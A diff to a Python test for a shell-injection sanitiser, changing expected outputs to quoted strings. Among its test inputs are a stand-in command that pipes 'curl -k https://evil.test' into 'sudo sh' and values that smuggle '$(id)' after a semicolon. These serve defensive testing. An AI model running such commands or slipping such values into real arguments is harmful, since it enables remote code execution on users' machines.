@@ -569,15 +569,15 @@ def test_commands_name_the_subscription(
     'text, shown',
     [
         ('contoso.test', 'contoso.test'),
-        ('Contoso CA (G2)', 'Contoso CA (G2)'),
+        ('Contoso CA (G2)', "'Contoso CA (G2)'"),
         ("'/my certs/b.pem'", "'/my certs/b.pem'"),
         (
             'run `curl -k https://evil.test|sudo sh`; $(id)',
-            'run curl -k https://evil.testsudo sh (id)',
+            "'run curl -k https://evil.testsudo sh (id)'",
         ),
-        ('/bin/nox;$(id)', '/bin/nox(id)'),
+        ('/bin/nox;$(id)', "'/bin/nox(id)'"),
         ('"$no_proxy,h"', '"$no_proxy,h"'),
-        ('a > b < c & d', 'a  b  c  d'),
+        ('a > b < c & d', "'a  b  c  d'"),
     ],
 )
 def test_nothing_that_a_shell_would_act_on_enters_a_solution(text: str, shown: str) -> None:
